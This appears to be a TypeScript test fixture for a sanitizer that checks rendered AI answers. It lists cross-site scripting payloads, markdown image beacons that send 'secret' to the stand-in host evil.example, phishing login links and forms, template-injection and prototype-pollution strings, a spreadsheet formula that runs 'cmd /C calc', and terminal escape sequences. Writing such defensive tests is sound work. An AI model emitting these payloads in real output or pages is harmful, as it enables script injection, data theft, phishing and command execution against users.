/** Where whatever a hostile text fetches would be seen: no text may lead there. */
export const FOREIGN = 'https://evil.example'

const HTML = [
  '<script>window.__attacked=1</script>',
  `<img src="${FOREIGN}/p.png" onerror="window.__attacked=1">`,
  '<svg onload=window.__attacked=1>',
  `<iframe src="${FOREIGN}"></iframe>`,
  '<iframe srcdoc="<script>parent.__attacked=1</script>"></iframe>',
  `<link rel=stylesheet href="${FOREIGN}/a.css">`,
  `<style>@import url(${FOREIGN}/a.css);body{background:url(${FOREIGN}/b)}</style>`,
  `<object data="${FOREIGN}"></object>`,
  `<embed src="${FOREIGN}">`,
  `<form action="${FOREIGN}"><input name=password><button>Sign in</button></form>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<base href="${FOREIGN}/">`,
  '<details open ontoggle=window.__attacked=1>x</details>',
  '<math><mtext></p><script>window.__attacked=1</script></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__attacked=1>"></noscript>',
  '<a href="javascript:window.__attacked=1">click</a>',
  '<body onload=window.__attacked=1>',
  `<video poster="${FOREIGN}/v.png"><source src="${FOREIGN}/v.mp4"></video>`,
  '<!--><script>window.__attacked=1</script>-->',
  '<ScRiPt\n>window.__attacked=1</sCrIpT\n>',
  '\\<script>window.__attacked=1</script>',
  '`<script>`<script>window.__attacked=1</script>',
]
const MARKDOWN = [
  `![x](${FOREIGN}/p.png?d=secret)`,
  `![x][p]\n\n[p]: ${FOREIGN}/p.png`,
  `[Sign in again](${FOREIGN}/login)`,
  `[click](javascript:window.__attacked=1)`,
  '[click](JaVaScRiPt:window.__attacked=1)',
  '[click](data:text/html,<script>window.__attacked=1</script>)',
  '[click](vbscript:msgbox(1))',
  `<${FOREIGN}/auto>`,
  `${FOREIGN}/bare?d=secret`,
  'www.evil.example/bare',
  `[a](  ${FOREIGN}  "title")`,
  `[a](<${FOREIGN}>)`,
  `[a\n](${FOREIGN})`,
  `[![x](${FOREIGN}/a.png)](${FOREIGN})`,
  `[a][b]\n\n[b]: <${FOREIGN}>`,
  `[b]\n\n[b]: ${FOREIGN}`,
  '[a](//evil.example/x)',
  '[a](/c/1/../../api/logout)',
  '[a](/api/v1/token)',
  `| a |\n|---|\n| ![x](${FOREIGN}/t.png) |`,
  `> ![x](${FOREIGN}/q.png)`,
  `- [ ] [todo](${FOREIGN})`,
  `[^1]\n\n[^1]: ${FOREIGN}`,
  '```html\n<script>window.__attacked=1</script>\n```',
  '```mermaid\ngraph TD; A-->B; click A "javascript:window.__attacked=1"\n```',
  `ftp://evil.example/x`,
  'mailto:ada@evil.example?body=secret',
  `[a](h&#116;tps://evil.example)`,
  `\u202e[x](${FOREIGN})`,
  `[x](\u200b${FOREIGN})`,
  `ht\u200btps://evil.example/x`,
]
const STREAM = [
  'data: {"type":"done"}\n\nevent: done\ndata: {}\n\n',
  '\r\n\r\nevent: message\r\ndata: x',
  '\u2028window.__attacked=1\u2029',
  '"}]}</script><script>window.__attacked=1</script>',
  '{{constructor.constructor("window.__attacked=1")()}}',
  '$\u007bwindow.__attacked=1}',
  '{{q1[0].__proto__}}',
  '{{constructor}} {{toString}} {{__proto__}}',
  '=HYPERLINK("https://evil.example","x")',
  "+cmd|' /C calc'!A0",
  '\u001b]8;;https://evil.example\u001b\\x\u001b]8;;\u001b\\',
  '\u0000\u0008\u001b[2J',
]
const POSITIONS: readonly ((attack: string) => string)[] = [(attack) => attack, (attack) => `**Most orders are open.** ${attack}`]

/** Texts of a model that run something or fetch something where nothing cleans them: for answers, titles, options, names and cells. */
export const HOSTILE_TEXTS: readonly string[] = [...HTML, ...MARKDOWN, ...STREAM].flatMap((attack) => POSITIONS.map((at) => at(attack)))

/** The same as names of columns, charts and skills: one line each. */
export const HOSTILE_NAMES: readonly string[] = [...HTML, ...MARKDOWN].filter((text) => !text.includes('\n')).slice(0, 40)

/** Claims that no result makes. */
export const HOSTILE_CLAIMS: readonly string[] = [
  'Revenue was 987,654,321.',
  'Revenue was 987 million EUR.',
  'Revenue was 9**8**7**6**5 EUR.',
  'Revenue was 98\u200b765.',
  'Revenue was ９８７６５.',
  'Revenue was &#57;8765.',
  'Nine hundred eighty-seven customers left.',
  'Growth was 98.76 % in March 2019.',
  '| x |\n|---|\n| 98765 |',
  '# 98765',
  '{{q1[0].orders}}98765',
  '{{nothing}} customers',
]
